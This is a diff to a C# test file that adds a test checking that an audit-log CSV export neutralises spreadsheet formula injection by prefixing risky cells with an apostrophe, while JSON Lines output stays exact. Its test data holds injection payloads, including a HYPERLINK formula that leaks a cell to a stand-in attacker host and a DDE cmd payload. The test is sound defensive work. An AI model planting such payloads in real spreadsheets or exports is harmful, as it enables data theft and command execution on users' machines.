@@ -215,6 +215,30 @@ public sealed class AuditSearchTests : IAsyncLifetime
         Assert.Equal(stored.Timestamp, DateTimeOffset.Parse(last[1], CultureInfo.InvariantCulture));
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
+    [InlineData("+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(1+1)")]
+    [InlineData("\t=1+1")]
+    public async Task ExportCsv_PrefixesFormulaCellsWithAnApostrophe_WhileJsonLinesStaysExact(string formula)
+    {
+        await _db.Get<AuditLog>().RecordAsync(new AuditEntry(AuditCategory.Human, "note", AuditActor.User(formula), formula, new { text = formula }));
+        await _db.Get<AuditChain>().SealPendingAsync();
+        using var csv = new MemoryStream();
+        using var jsonl = new MemoryStream();
+
+        await Search.ExportAsync(new AuditQuery(), AuditExportFormat.Csv, csv);
+        await Search.ExportAsync(new AuditQuery(), AuditExportFormat.JsonLines, jsonl);
+
+        var last = ParseCsv(Encoding.UTF8.GetString(csv.ToArray()))[^1];
+        Assert.Equal("'" + formula, last[3]);
+        Assert.Equal("'" + formula, last[8]);
+        using var row = JsonDocument.Parse(Encoding.UTF8.GetString(jsonl.ToArray()).Split('\n', StringSplitOptions.RemoveEmptyEntries)[^1]);
+        Assert.Equal(formula, row.RootElement.GetProperty("actor").GetString());
+        Assert.Equal(formula, row.RootElement.GetProperty("summary").GetString());
+    }
+
     private static List<string[]> ParseCsv(string text)
     {
         var rows = new List<string[]>();
